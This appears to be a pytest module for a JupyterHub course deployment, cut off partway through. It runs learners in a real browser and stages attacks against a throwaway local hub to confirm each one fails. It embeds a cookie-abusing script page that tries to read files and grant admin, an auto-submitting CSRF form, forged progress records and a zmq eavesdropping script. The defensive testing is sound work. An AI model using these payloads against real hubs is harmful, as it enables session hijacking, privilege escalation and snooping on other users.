"""The classroom: ``make hub``'s JupyterHub with learners in a real browser (Debian's Chromium, Playwright).

One hub for the module, started as ``make hub`` starts it, from a clone only root can read (issue 23.3), with its own
homes and system group (tests/browser/hubserver.py), all removed at the end, also when a test fails. Three learners
log in at once and run notebook 00 in their own kernels; then the attacks of issues 22, 34 and 41 (and the second
attack report's N1-N6), each performed against this hub by a learner, a page a learner serves or a link a learner
sends, each failing its test if it works; last, Ctrl-C stops every process of every learner.

Needs root (each learner is a system user); run with ``make test-hub`` or ``make test-browser``.
"""

from __future__ import annotations

import contextlib
import grp
import hashlib
import json
import os
import re
import secrets
import shutil
import signal
import subprocess
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import nbformat
import psutil
import pytest
from hub_client import XSRF_FIELD, flood_as
from hubserver import ThrowAwayHub, private_clone
from labserver import ROOT, SCREENSHOTS, require_browser
from learner_run import learner_run_problems

from tools.hub.course_hub import free_port

pytestmark = [pytest.mark.timeout(900), pytest.mark.hub]

# the shortest: every notebook's learner edition runs in tests/browser/test_jupyterlab.py
NOTEBOOK = "00_start_here.ipynb"
# The learners' copy of the environment, outside the private clone, kept between runs like make hub's own: one per
# checkout under test (not per clone), so that two checkouts tested at once never rebuild each other's.
LEARNER_ENV = Path("/var/lib/course-hub") / f"learner-env-test-{hashlib.sha256(str(ROOT).encode()).hexdigest()[:12]}"


def prune_learner_envs(folder: Path, keep: Path) -> list[Path]:
    """Remove (and return) the learners' environments (6 GB each) whose checkout, named in ``<env>.checkout`` (by
    :func:`hub`), is gone or not named.

    Usage: ``prune_learner_envs(LEARNER_ENV.parent, keep=LEARNER_ENV)``
    """
    removed = []
    for env in sorted(folder.glob("learner-env-test-*")):
        if env == keep or not env.is_dir():
            continue
        note = env.with_name(env.name + ".checkout")
        try:
            checkout = note.read_text(encoding="utf-8").strip()
        except OSError:
            checkout = ""
        if not checkout or not Path(checkout).is_dir():
            shutil.rmtree(env, ignore_errors=True)
            note.unlink(missing_ok=True)
            removed.append(env)
    return removed


# Smaller budgets than make hub's (tests/test_deploy_configs.py checks those), so that each attack reaches its own
# quickly (the room's own sign-ups here are eight).
BLOCK_AFTER, PER_ADDRESS, SIGNUPS_PER_ADDRESS, MEMORY_MAX, DISK_MAX, LOG_MAX = 3, 10, 10, "2.5G", "200M", 4 << 20


@dataclass
class Learner:
    name: str
    password: str
    context: Any = None
    page: Any = None
    notes: dict[str, object] = field(default_factory=dict)

    @property
    def home(self) -> Path:
        import pwd

        return Path(pwd.getpwnam(self.name).pw_dir)


@pytest.fixture(scope="module")
def hub() -> Iterator[ThrowAwayHub]:
    """``make hub`` started from a ``git clone`` in a folder only root can read (mode 0700, as ``mktemp -d`` makes
    it), with its default state (``.hub`` in the clone)."""
    require_browser()
    if os.geteuid() != 0:
        pytest.skip("the classroom tests need root: each learner is a separate system user (CI runs as root)")

    def interrupt(signum: int, frame: object) -> None:
        raise KeyboardInterrupt(f"signal {signum}")

    previous = signal.signal(signal.SIGTERM, interrupt)  # a cancelled run still removes the learners it created
    LEARNER_ENV.parent.mkdir(parents=True, exist_ok=True)
    prune_learner_envs(LEARNER_ENV.parent, keep=LEARNER_ENV)
    LEARNER_ENV.with_name(LEARNER_ENV.name + ".checkout").write_text(str(ROOT), encoding="utf-8")
    top = Path(tempfile.mkdtemp(prefix="course-private-"))
    try:
        assert (top.stat().st_mode & 0o777) == 0o700
        clone = private_clone(top / "checkout")
        with ThrowAwayHub(checkout=clone, state=clone / ".hub",
                          extra_env={"HUB_LEARNER_ENV": str(LEARNER_ENV),
                                     "HUB_ALLOWED_FAILED_LOGINS": str(BLOCK_AFTER),
                                     "HUB_FAILED_LOGINS_PER_ADDRESS": str(PER_ADDRESS),
                                     "HUB_SIGNUPS_PER_ADDRESS": str(SIGNUPS_PER_ADDRESS),
                                     "HUB_MEMORY_MAX": MEMORY_MAX, "HUB_DISK_MAX": DISK_MAX,
                                     "HUB_LOG_MAX": str(LOG_MAX)}) as running:
            running.start()
            yield running
            running.stop(timeout=30)  # if the Ctrl-C test did not run; cleanup() ends anything left, by pid
    finally:
        shutil.rmtree(top, ignore_errors=True)
        signal.signal(signal.SIGTERM, previous)


def new_page(browser, outside: list[str]):  # type: ignore[no-untyped-def]
    context = browser.new_context(viewport={"width": 1300, "height": 900})
    page = context.new_page()
    page.on("request", lambda request: outside.append(request.url)
            if not re.match(r"^(https?|wss?)://(127\.0\.0\.1|([a-z0-9-]+\.)?localhost)(:\d+)?/", request.url)
            and re.match(r"^(https?|wss?)://", request.url) else None)
    return context, page


def sign_up(page, hub: ThrowAwayHub, learner: Learner) -> str:  # type: ignore[no-untyped-def]
    page.goto(f"{hub.url}/hub/signup")
    page.fill("#username_input", learner.name)
    page.fill("#password_input", learner.password)
    page.fill("#password_confirmation_input", learner.password)
    page.click("#signup_submit")
    page.wait_for_load_state()
    return page.inner_text("body")


def log_in(page, hub: ThrowAwayHub, name: str, password: str, next_url: str = "") -> None:  # type: ignore[no-untyped-def]
    page.goto(f"{hub.url}/hub/login" + (f"?next={next_url}" if next_url else ""))
    page.fill("#username_input", name)
    page.fill("#password_input", password)
    page.click("#login_submit", no_wait_after=True)


@dataclass
class Room:
    hub: ThrowAwayHub
    browser: object
    learners: dict[str, Learner]
    instructor: Learner
    outside: list[str]
    notes: dict[str, Any] = field(default_factory=dict)


@pytest.fixture(scope="module")
def room(hub: ThrowAwayHub, chromium) -> Iterator[Room]:  # type: ignore[no-untyped-def]
    """Five sign-ups (ann, bob, cat run the notebook; dan is approved but types a wrong password; eve is never
    approved); the instructor logs in with the first password ``make hub`` made and approves four of them."""
    outside: list[str] = []
    learners = {key: Learner(f"{hub.prefix}{key}", secrets.token_urlsafe(10))
                for key in ("ann", "bob", "cat", "dan", "eve")}
    context, page = new_page(chromium, outside)
    try:
        for learner in learners.values():
            text = sign_up(page, hub, learner)
            assert "sent to the admin" in text, f"sign-up of {learner.name} failed: {text[:300]}"
    finally:
        context.close()
    instructor = Learner(hub.admin, hub.admin_password)
    instructor.context, instructor.page = new_page(chromium, outside)
    log_in(instructor.page, hub, instructor.name, instructor.password, next_url="/hub/authorize")
    instructor.page.wait_for_url(re.compile(r"^http://[^/?]+/hub/authorize$"), timeout=120_000)
    for key in ("ann", "bob", "cat", "dan"):  # the Authorize buttons POST with the page's XSRF token
        instructor.page.click(f"#authorize-{learners[key].name}")
        instructor.page.wait_for_selector(f"#authorize-{learners[key].name}:has-text('Unauthorize')", timeout=60_000)
    authorize_page = instructor.page.inner_text("body")
    for key in ("ann", "bob", "cat", "dan", "eve"):
        assert learners[key].name in authorize_page
    yield Room(hub, chromium, learners, instructor, outside)
    for learner in [instructor, *learners.values()]:
        if learner.context is not None:
            learner.context.close()


def test_the_hub_listens_on_loopback_only(hub: ThrowAwayHub) -> None:
    listening = []
    for proc in hub.processes():
        try:
            listening += [(proc.pid, c.laddr.ip, c.laddr.port) for c in proc.net_connections("inet")  # type: ignore[attr-defined]
                          if c.status == psutil.CONN_LISTEN]
        except psutil.NoSuchProcess:
            continue
    assert any(port == hub.port for _, _, port in listening), f"nothing listens on the hub's port: {listening}"
    assert all(ip == "127.0.0.1" for _, ip, _ in listening), f"the hub listens beyond loopback: {listening}"


def no_account_and_no_server(hub: ThrowAwayHub, name: str) -> list[str]:
    import pwd

    found = [f"a system user {name}"] if name in hub.learner_uids() else []
    with contextlib.suppress(KeyError):
        found.append(f"an account {pwd.getpwnam(name).pw_name}")
    return found + ([f"a home {hub.homes / name}"] if (hub.homes / name).exists() else [])


def test_a_wrong_password_or_an_unapproved_learner_gets_no_server(room: Room) -> None:
    hub = room.hub
    dan, eve, ann = room.learners["dan"], room.learners["eve"], room.learners["ann"]
    context, page = new_page(room.browser, room.outside)
    try:
        log_in(page, hub, dan.name, dan.password + "x")
        page.wait_for_selector("text=Invalid username or password", timeout=60_000)
        log_in(page, hub, eve.name, eve.password)  # the right password, but the instructor did not approve eve
        page.wait_for_selector(f"text=User {eve.name} has not been authorized", timeout=60_000)
        log_in(page, hub, ann.name, ann.password[::-1])  # somebody else trying ann's name
        page.wait_for_selector("text=Invalid username or password", timeout=60_000)
        page.goto(f"{hub.url}/user/{dan.name}/lab")
        assert "/hub/login" in page.url, f"without a session, /user/{dan.name}/lab ended on {page.url}"
    finally:
        context.close()
    for learner in (dan, eve, ann):
        found = no_account_and_no_server(hub, learner.name)
        assert not found, f"{learner.name} got {found} without logging in"


@contextlib.contextmanager
def kernel_client(connection: str) -> Iterator[Any]:
    """A client of the kernel of the connection file ``connection``, its channels open for the ``with`` block."""
    from jupyter_client import BlockingKernelClient

    client = BlockingKernelClient(connection_file=connection)
    client.load_connection_file()
    client.start_channels()
    try:
        yield client
    finally:
        client.stop_channels()


def run_in_own_kernel(hub: ThrowAwayHub, learner: Learner) -> nbformat.NotebookNode:
    """The learner's own NOTEBOOK, each code cell run in order in the kernel their JupyterLab page opened, as
    Shift+Enter runs it (an error does not stop the next); the notebook with its outputs."""
    notebook = nbformat.read(learner.home / "workspace" / NOTEBOOK, 4)
    with kernel_client(connection_file(process_of(hub, learner, "ipykernel"))) as client:
        for count, cell in enumerate((c for c in notebook.cells if c.cell_type == "code" and c.source.strip()), 1):
            outputs: list = []
            client.execute_interactive(cell.source, allow_stdin=False, timeout=300,
                                       output_hook=lambda message, kept=outputs: (
                kept.append(nbformat.v4.output_from_msg(message)) if message["header"]["msg_type"] in
                ("stream", "error", "execute_result", "display_data") else None))
            cell.outputs, cell.execution_count = outputs, count
    return notebook


@pytest.fixture(scope="module")
def at_work(room: Room) -> Room:
    """ann, bob and cat log in at once (three logins sent before any server exists: the hub spawns them side by
    side), each gets their own workspace and lands on notebook 00 in JupyterLab, its kernel idle."""
    hub = room.hub
    three = [room.learners[key] for key in ("ann", "bob", "cat")]
    started = time.monotonic()
    for learner in three:
        learner.context, learner.page = new_page(room.browser, room.outside)
        log_in(learner.page, hub, learner.name, learner.password)
    for learner in three:
        learner.page.wait_for_url(re.compile(rf".*/user/{learner.name}/lab.*"), timeout=240_000)
        learner.page.wait_for_selector('.jp-Notebook-ExecutionIndicator[data-status="idle"]', timeout=180_000)
    room.notes["logged_in"] = time.monotonic() - started
    for learner in three:
        copy = learner.home / "workspace" / NOTEBOOK
        assert copy.stat().st_uid == __import__("pwd").getpwnam(learner.name).pw_uid, f"{copy} is not {learner.name}'s"
        assert "YOUR CODE HERE" in copy.read_text(), f"{copy} is not the learner edition"
        assert (learner.home.stat().st_mode & 0o077) == 0, f"{learner.home} is open to others"
    return room


def test_three_learners_log_in_at_once_and_run_the_first_notebook_in_their_own_workspace(at_work: Room) -> None:
    """Each of the three runs their notebook 00 at the same time, in their own kernel: only the exercise stubs fail
    (or check() says it got a stub), to the last cell."""
    room, hub = at_work, at_work.hub
    three = [room.learners[key] for key in ("ann", "bob", "cat")]
    started = time.monotonic()
    with ThreadPoolExecutor(3) as pool:
        runs = list(pool.map(lambda learner: run_in_own_kernel(hub, learner), three))
    stored = nbformat.read(hub.checkout / "notebooks" / NOTEBOOK, 4)
    for learner, run in zip(three, runs):
        problems = learner_run_problems(run, stored)
        assert not problems, f"{learner.name}'s run of {NOTEBOOK}:\n" + "\n".join(problems)
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    three[0].page.screenshot(path=str(SCREENSHOTS / "hub_ann.png"))
    print(f"\nthree learners: logged in and servers up in {room.notes['logged_in']:.0f} s, "
          f"{NOTEBOOK} run in {time.monotonic() - started:.0f} s in all")
    assert not room.outside, f"requests left the machine: {room.outside[:5]}"


def test_learners_run_their_copy_of_the_environment_outside_the_private_checkout(at_work: Room) -> None:
    """Issue 23.3: the hub runs from a clone only root can read; ann's server runs the learners' copy of the
    environment (outside the clone), and ``import course_utils`` as ann, anywhere, gives that copy's course, never the
    clone's. (That each learner's workspace holds the learner edition is checked when they log in.)"""
    hub, ann = at_work.hub, at_work.learners["ann"]
    assert (hub.checkout.parent.parent.stat().st_mode & 0o777) == 0o700, "the clone is not in a private folder"
    assert hub.state == hub.checkout / ".hub" and (hub.state / "private" / "jupyterhub.sqlite").exists()
    server = process_of(hub, ann, "jupyterhub.singleuser")
    assert server.cmdline()[0] == str(LEARNER_ENV / "bin" / "python"), server.cmdline()
    probe = subprocess.run(["runuser", "-u", ann.name, "--", str(LEARNER_ENV / "bin" / "python"), "-c",
                            "import course_utils; print(course_utils.__file__)"], capture_output=True,
                           text=True, timeout=120, env={"PATH": "/usr/sbin:/usr/bin:/sbin:/bin"}, cwd="/")
    assert probe.stdout.startswith(str(LEARNER_ENV / "course" / "course_utils")), probe.stdout + probe.stderr
    assert str(hub.checkout) not in probe.stdout


def test_a_learner_cannot_open_another_learners_files_through_the_hub_nor_on_disk(at_work: Room) -> None:
    room = at_work
    hub, ann, bob = room.hub, room.learners["ann"], room.learners["bob"]
    assert ann.page is not None and bob.page is not None, "the learners are not logged in (see the test above)"
    secret_b, secret_a = f"bob-secret-{secrets.token_hex(8)}", f"ann-secret-{secrets.token_hex(8)}"
    for learner, secret in ((bob, secret_b), (ann, secret_a)):
        as_learner(learner.name, f"printf %s {secret} > {learner.home / 'workspace' / 'secret.txt'}")
    page = ann.context.new_page()
    try:
        own = page.goto(f"{hub.user_url(ann.name)}/files/secret.txt")
        assert own.status == 200 and secret_a in page.content(), "ann cannot read her own file: the rest proves nothing"
        for base in (hub.user_url(bob.name), f"{hub.url}/user/{bob.name}"):  # bob's origin, and the hub's redirect
            for path in ("/files/secret.txt", "/api/contents/secret.txt", f"/api/contents/{NOTEBOOK}",
                         "/lab/tree/secret.txt"):
                response = page.goto(f"{base}{path}")
                body = page.content()
                assert secret_b not in body and '"cells"' not in body, f"ann read {base}{path} of bob"
                expected = (403,) if base.startswith(hub.user_url(bob.name)) else (403, 404)  # the hub: not yours
                assert response.status in expected, (
                    f"{base}{path} with ann's session: HTTP {response.status} at {page.url}")
    finally:
        page.close()
    target = bob.home / "workspace" / NOTEBOOK
    assert target.exists()

    def as_ann(*command: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(["runuser", "-u", ann.name, "--", *command], capture_output=True, text=True, timeout=60)

    assert as_ann("cat", str(ann.home / "workspace" / NOTEBOOK)).returncode == 0, "ann cannot read her own notebook"
    for command in (("cat", str(target)), ("ls", str(bob.home)), ("touch", str(bob.home / "workspace" / "x")),
                    ("cp", "/dev/null", str(target))):
        result = as_ann(*command)
        assert result.returncode != 0 and "Permission denied" in result.stderr, f"ann ran {command}: {result}"
    assert "YOUR CODE HERE" in target.read_text()  # bob's notebook is untouched


# -- attacks from inside the room (issue 22): each performs the attack and fails if it works ----------------------

ATTACK_PAGE = """<!doctype html><html><body><pre id="out">running</pre><script>
(async () => {
  const cfg = CONFIG;
  const out = {origin: location.origin, cookie: document.cookie};
  async function grab(url, opts) {
    try {
      const r = await fetch(url, Object.assign({credentials: 'include'}, opts || {}));
      return r.status + ' ' + (await r.text()).slice(0, 400);
    } catch (e) { return 'blocked: ' + e; }
  }
  out.hubUser = await grab(cfg.hub + '/hub/api/user');
  out.hubUserHere = await grab('/hub/api/user');
  out.victimFile = await grab(cfg.victimFile);
  out.victimFileHere = await grab(cfg.victimPath);
  out.makeAdmin = await grab(cfg.hub + '/hub/api/users/' + cfg.attacker,
                             {method: 'PATCH', body: JSON.stringify({admin: true})});
  out.makeAdminHere = await grab('/hub/api/users/' + cfg.attacker,
                                 {method: 'PATCH', body: JSON.stringify({admin: true})});
  out.authorizeHere = await grab('/hub/authorize');  // every sign-up, had a victim logged in on this origin
  out.loginHere = await grab('/hub/login');
  document.getElementById('out').textContent = JSON.stringify(out);
})();
</script></body></html>"""

# "done" once the hub answered both images (loaded or refused); the test waits for the hub's answer to the form's
# POST itself (a response event in the browser), so nothing waits for a fixed time.
CSRF_PAGE = """<!doctype html><html><body><p id="done">waiting</p>
<script>let left = 2;
function answered() { if (--left === 0) document.getElementById('done').textContent = 'done'; }</script>
<img src="HUB/hub/authorize/EVE" onload="answered()" onerror="answered()">
<img src="HUB/hub/discard/EVE" onload="answered()" onerror="answered()">
<iframe name="sink"></iframe>
<form id="f" method="post" action="HUB/hub/authorize/EVE" target="sink"></form>
<script>document.getElementById('f').submit();</script>
</body></html>"""


def as_learner(name: str, script: str) -> None:
    subprocess.run(["runuser", "-u", name, "--", "sh", "-c", script], check=True, timeout=60)


def plant_static_page(learner: Learner, filename: str, html: str) -> str:
    """A labextension folder in the learner's home, whose files their server serves to anybody: its path there."""
    folder = learner.home / ".local/share/jupyter/labextensions/course-attack/static"
    as_learner(learner.name, f"mkdir -p {folder}")
    target = folder / filename
    subprocess.run(["runuser", "-u", learner.name, "--", "tee", str(target)], input=html.encode(), check=True,
                   capture_output=True, timeout=60)
    return f"/lab/extensions/course-attack/static/{filename}"


def connection_file(kernel) -> str:  # type: ignore[no-untyped-def]
    command = kernel.cmdline()
    return command[command.index("-f") + 1]


def run_in_kernel(hub: ThrowAwayHub, learner: Learner, code: str, timeout: float = 180,
                  connection: str | None = None) -> str:
    """Run ``code`` in the learner's own kernel (their notebook page's, or ``connection``'s), as their next cell
    would run, and return what it printed; fail on an error."""
    printed: list[str] = []
    errors: list[str] = []

    def collect(message: dict) -> None:
        kind, content = message["header"]["msg_type"], message["content"]
        if kind == "stream":
            printed.append(content["text"])
        elif kind == "error":
            errors.append("\n".join(content["traceback"])[-2000:])

    with kernel_client(connection or connection_file(process_of(hub, learner, "ipykernel"))) as client:
        reply = client.execute_interactive(code, store_history=False, allow_stdin=False, timeout=timeout,
                                           output_hook=collect)
    assert reply["content"]["status"] == "ok" and not errors, \
        f"in {learner.name}'s kernel: {errors or reply['content']}"
    return "".join(printed)


def check_as(room: Room, learner: Learner, answers: list[str]) -> None:
    """The learner calls check("01.1", answer) for each answer in their own kernel, in their workspace, with the
    settings the hub gave it: real attempts in their own progress record."""
    setting = process_of(room.hub, learner, "ipykernel").environ().get("COURSE_PROGRESS", "on")
    assert setting.lower() in ("", "on", "1", "yes", "true"), f"the hub turned the progress record off: {setting}"
    run_in_kernel(room.hub, learner, "from course_utils import check\n" +
                  "".join(f"check('01.1', {answer})\n" for answer in answers))


def dashboard_url(hub: ThrowAwayHub) -> str:
    """The dashboard service at its own origin, named as JupyterHub names a service's subdomain."""
    from jupyterhub.utils import subdomain_hook_idna

    return f"http://{subdomain_hook_idna('dashboard', 'localhost', 'service')}:{hub.port}/services/dashboard/"


def test_the_instructor_sees_the_room_and_a_learner_cannot(at_work: Room) -> None:
    """Issues 27 and 34.9: ann passes 01.1 on her second try, bob fails it twice, cat once; bob then writes two
    passes of his own into his record from his terminal, one with a time in the future (his row would stay "0 s
    ago"), one whose time is no time. The instructor's dashboard shows exactly the three learners' checks (and that
    most learners are stuck on 01.1), no ✓ for bob, and says it ignored his two lines; bob opening the dashboard
    gets 403 and no grid."""
    room = at_work
    ann, bob, cat = (room.learners[key] for key in ("ann", "bob", "cat"))
    wrong, right = "lambda grad: grad.clamp(0, 1)", "lambda grad: grad.clamp(-1, 1)"
    check_as(room, ann, [wrong, right])
    check_as(room, bob, [wrong, wrong])
    check_as(room, cat, [wrong])
    forged = "".join(json.dumps({"exercise": exercise, "verdict": "pass", "attempt": 1, "time": when}) + "\n"
                     for exercise, when in (("02.1", "2099-01-01T00:00:00Z"), ("03.1", "just now")))
    record = bob.home / "workspace" / ".course-progress.jsonl"
    subprocess.run(["runuser", "-u", bob.name, "--", "tee", "-a", str(record)], input=forged.encode(), check=True,
                   capture_output=True, timeout=60)
    url = dashboard_url(room.hub)
    page = room.instructor.page
    page.goto(url)
    page.wait_for_selector("#room", timeout=60_000)
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SCREENSHOTS / "hub_dashboard.png"), full_page=True)
    row = {name: page.inner_text(f"tr[data-learner='{name}']") for name in (ann.name, bob.name, cat.name)}
    assert "✓" in row[ann.name] and "✗" not in row[ann.name], row
    assert "✗2" in row[bob.name] and "✓" not in row[bob.name], row  # neither forged pass
    assert "2 line(s) ignored" in row[bob.name] and "ignored" not in row[ann.name], row
    assert "✗1" in row[cat.name] and "✓" not in row[cat.name], row
    assert all("ago" in text for text in row.values()), row
    assert "stuck on 01.1 (2 of" in page.inner_text("#stuck")
    header = page.inner_text("#room thead")
    assert "01.1" in header and "11.8" in header
    bob.page.goto(url)
    bob.page.wait_for_load_state()
    text = bob.page.inner_text("body")
    assert "403" in text and bob.page.locator("#room").count() == 0, text[:500]


def test_a_page_a_learner_serves_cannot_act_with_another_learners_or_the_instructors_cookies(at_work: Room) -> None:
    """Issue 22.1: bob serves a page with script from his own server; the instructor and ann open his links (on
    the hub's origin, as a learner would post them, and on bob's own). The script may not read their hub session,
    ann's files, or make bob an admin: bob's server has its own origin (bob.localhost), and the hub redirects
    /user/bob/... there."""
    room = at_work
    hub, ann, bob, instructor = room.hub, room.learners["ann"], room.learners["bob"], room.instructor
    secret_a = f"ann-secret-{secrets.token_hex(8)}"
    as_learner(ann.name, f"printf %s {secret_a} > {ann.home / 'workspace' / 'secret.txt'}")
    config = {"hub": hub.url, "attacker": bob.name, "victimFile": f"{hub.user_url(ann.name)}/files/secret.txt",
              "victimPath": f"/user/{ann.name}/files/secret.txt"}
    path = plant_static_page(bob, "attack.html", ATTACK_PAGE.replace("CONFIG", json.dumps(config)))
    seen = []
    for victim in (instructor, ann):
        for link in (f"{hub.url}/user/{bob.name}{path}", f"{hub.user_url(bob.name)}{path}"):
            page = victim.context.new_page()
            try:
                response = page.goto(link)
                if page.query_selector("#out") is None:  # the hub did not serve bob's page to this victim at all
                    seen.append((victim.name, link, f"not served: HTTP {response.status} at {page.url}"))
                    assert "course-attack" not in page.url or response.status >= 400, page.url
                    continue
                page.wait_for_function("document.getElementById('out').textContent !== 'running'", timeout=60_000)
                result = json.loads(page.inner_text("#out"))
            finally:
                page.close()
            seen.append((victim.name, link, result))
            assert result["origin"] != hub.url, f"bob's page ran on the hub's origin: {result}"
            for key in ("hubUser", "hubUserHere"):
                assert not result[key].startswith("200"), f"{victim.name}: bob's page read {key}: {result[key]}"
                assert f'"name":"{victim.name}"' not in result[key].replace(" ", ""), result
            for key in ("victimFile", "victimFileHere"):
                assert secret_a not in result[key], f"{victim.name}: bob's page read ann's file ({key})"
            for key in ("makeAdmin", "makeAdminHere"):
                assert not result[key].startswith("200"), f"{victim.name}: bob's page changed bob: {result[key]}"
            for key in ("authorizeHere", "loginHere"):  # issue 34.7: the hub's pages are not served on bob's host
                assert not result[key].startswith("200"), f"{victim.name}: bob's page read {key}: {result[key][:200]}"
            assert "jupyterhub" not in result["cookie"], f"bob's page sees a hub cookie: {result['cookie']}"
    assert hub.db("select admin from users where name = ?", bob.name) == [(0,)], "bob became an admin"
    print("\norigin attack, what bob's page got:", *(f"  {who} via {link}: {r}" for who, link, r in seen), sep="\n")


def test_the_hub_answers_only_on_its_own_host(at_work: Room) -> None:
    """Issue 34.7: bob sends the instructor a link to the hub's login page on bob's own host
    (http://bob.localhost:PORT/hub/login): the instructor's browser lands on the hub's host, never on a login form
    of bob's origin (whose page could then read /hub/authorize with the instructor's cookie). A login POSTed there
    with the instructor's right password is refused (404) and sets no cookie; the hub's API answers nothing there. A
    login on the hub's host with ``?next=`` bob's page (attack N6) lands on the hub's home."""
    room = at_work
    hub, bob, instructor = room.hub, room.learners["bob"], room.instructor
    bob_host = f"{bob.name}.localhost:{hub.port}"
    page = instructor.context.new_page()
    try:
        response = page.goto(f"http://{bob_host}/hub/login?next=%2Fhub%2Fauthorize")
        assert page.url.startswith(f"{hub.url}/hub/"), f"the instructor stayed on {page.url}"
        assert response.status == 200 and bob_host not in page.url
    finally:
        page.close()
    visitor = hub.client("127.0.0.1")
    token = visitor.xsrf()  # a real form's token, on the hub's host
    answer = visitor.post("/hub/login", {"username": instructor.name, "password": instructor.password}, xsrf=token,
                          host=bob_host)
    assert answer.status_code == 404 and "jupyterhub-hub-login" not in answer.headers.get("Set-Cookie", ""), \
        f"a login on bob's host: HTTP {answer.status_code} {answer.headers}"
    # attack N6: a link's ?next= to bob's page lands the instructor on the hub's (before: on /user/bob/...)
    answer = visitor.post(f"/hub/login?next=http%3A%2F%2F{bob_host}%2Fuser%2F{bob.name}%2Ffiles%2Fx.html",
                          {"username": instructor.name, "password": instructor.password}, xsrf=token)
    assert answer.status_code == 302 and answer.headers["Location"] == "/hub/home", answer.headers
    for path, status in (("/hub/api/users", 404), ("/hub/authorize", 302), ("/hub/signup", 302)):
        answer = visitor.get(path, host=bob_host)
        assert answer.status_code == status, f"{path} on bob's host: HTTP {answer.status_code}"
        assert status == 404 or answer.headers["Location"] == f"{hub.url}{path}", answer.headers  # to the hub's host


def test_a_page_cannot_approve_or_discard_a_sign_up_for_the_instructor(at_work: Room) -> None:
    """Issue 22.2: the instructor (logged in) opens a learner's page that requests /hub/authorize/EVE and
    /hub/discard/EVE as images and POSTs a form to /hub/authorize/EVE; eve stays signed up and not approved."""
    room = at_work
    hub, bob, eve, instructor = room.hub, room.learners["bob"], room.learners["eve"], room.instructor
    assert hub.db("select is_authorized from users_info where username = ?", eve.name) == [(0,)]
    path = plant_static_page(bob, "csrf.html", CSRF_PAGE.replace("HUB", hub.url).replace("EVE", eve.name))
    page = instructor.context.new_page()
    try:
        def form_post(response) -> bool:  # type: ignore[no-untyped-def]
            return response.request.method == "POST" and response.url.endswith(f"/hub/authorize/{eve.name}")

        for link in (f"{hub.url}/user/{bob.name}{path}", f"{hub.user_url(bob.name)}{path}"):
            with page.expect_response(form_post, timeout=60_000):  # the hub answered the form's POST
                page.goto(link)
            page.wait_for_selector("#done:has-text('done')", timeout=60_000)  # and both images
        page.goto(f"{hub.url}/hub/authorize/{eve.name}")  # even the instructor's own GET changes nothing
    finally:
        page.close()
    assert hub.db("select is_authorized from users_info where username = ?", eve.name) == [(0,)], \
        "a page the instructor opened approved (or discarded) eve's sign-up"


def listening(port: int) -> bool:
    import socket

    with socket.socket() as sock:
        sock.settimeout(2)
        return sock.connect_ex(("127.0.0.1", port)) == 0


def wait_for(ready: Callable[[], object], seconds: float, failure: str) -> None:
    """Ask ``ready()`` every 0.2 s until it is true; fail with ``failure`` after ``seconds``."""
    deadline = time.monotonic() + seconds
    while not ready():
        assert time.monotonic() < deadline, failure
        time.sleep(0.2)


def processes_of(hub: ThrowAwayHub, learner: Learner, needle: str) -> list[psutil.Process]:
    """The learner's processes whose command line holds ``needle``."""
    uid = hub.learner_uids()[learner.name]
    return [proc for proc in psutil.process_iter(["uids", "cmdline"])
            if proc.info["uids"] and proc.info["uids"].real == uid and needle in " ".join(proc.info["cmdline"] or [])]


def process_of(hub: ThrowAwayHub, learner: Learner, needle: str) -> psutil.Process:
    """The learner's first process whose command line holds ``needle`` (waiting two minutes at most for one)."""
    wait_for(lambda: processes_of(hub, learner, needle), 120, f"no process of {learner.name} with {needle!r}")
    return processes_of(hub, learner, needle)[0]


def test_temporary_files_and_compile_caches_are_private_to_each_learner(at_work: Room) -> None:
    """Issue 22.3: bob makes /tmp/torchinductor_ann first, world-writable, as a learner could; ann's kernel must write
    its temporary files and torch.compile / Triton caches under her home, mode 0700 (asked in her running kernel)."""
    room = at_work
    ann, bob = room.learners["ann"], room.learners["bob"]
    trap = Path(f"/tmp/torchinductor_{ann.name}")
    as_learner(bob.name, f"mkdir -p {trap} && chmod 777 {trap}")
    try:
        kernel = process_of(room.hub, ann, "ipykernel")
        env = kernel.environ()
        for name in ("TMPDIR", "TORCHINDUCTOR_CACHE_DIR", "TRITON_CACHE_DIR", "XDG_CACHE_HOME"):
            folder = Path(env.get(name, "/tmp"))
            assert folder.is_relative_to(ann.home), f"ann's kernel has {name}={env.get(name)}, outside her home"
            info = folder.stat()
            assert info.st_uid == kernel.uids().real and (info.st_mode & 0o077) == 0, f"{folder} is not ann's, 0700"
        # torch's own cache_dir_utils.py ("without torch dependencies"), loaded alone: importing it through
        # torch._inductor would cost the kernel 2.7 CPU-s for the same two functions
        probe = ("import importlib.util, pathlib, tempfile, torch\n"
                 "source = pathlib.Path(torch.__file__).parent / '_inductor/runtime/cache_dir_utils.py'\n"
                 "spec = importlib.util.spec_from_file_location('cache_dir_utils', source)\n"
                 "utils = importlib.util.module_from_spec(spec); spec.loader.exec_module(utils)\n"
                 "print(tempfile.gettempdir()); print(utils.cache_dir()); print(utils.triton_cache_dir(0))")
        used = run_in_kernel(room.hub, ann, probe).split()  # in ann's own kernel, after bob set the trap
        assert len(used) == 3, used
        for line in used:
            assert Path(line).is_relative_to(ann.home) and not Path(line).is_relative_to(trap), \
                f"ann's torch would use {line} (bob made {trap})"
    finally:
        subprocess.run(["rm", "-rf", str(trap)], check=False)


# What bob runs from his terminal (issue 34.2): subscribe to the IOPub channel of every zmq socket of ann's he can
# name -- each TCP port her processes listen on (/proc/net/tcp is readable by every user) and her kernels' IOPub
# endpoints (given to him: a unix socket's path he could not list in her home) -- then print what arrives.
# The first lines of each attacker's script: the TCP ports the victim (uid argv[1]) listens on, read from /proc as any
# user can read them.
VICTIMS_PORTS = r"""
import sys
uid = int(sys.argv[1])
ports = set()
for table in ("/proc/net/tcp", "/proc/net/tcp6"):
    for line in open(table).read().splitlines()[1:]:
        fields = line.split()
        if fields[3] == "0A" and int(fields[7]) == uid:  # LISTEN, the victim's
            ports.add(int(fields[1].rsplit(":", 1)[1], 16))
"""
EAVESDROP = VICTIMS_PORTS + r"""
import json, time, zmq
endpoints, seconds = json.loads(sys.argv[2]), float(sys.argv[3])
context = zmq.Context()
subscribers = []
for where in sorted({f"tcp://127.0.0.1:{port}" for port in ports} | set(endpoints)):
    socket = context.socket(zmq.SUB)
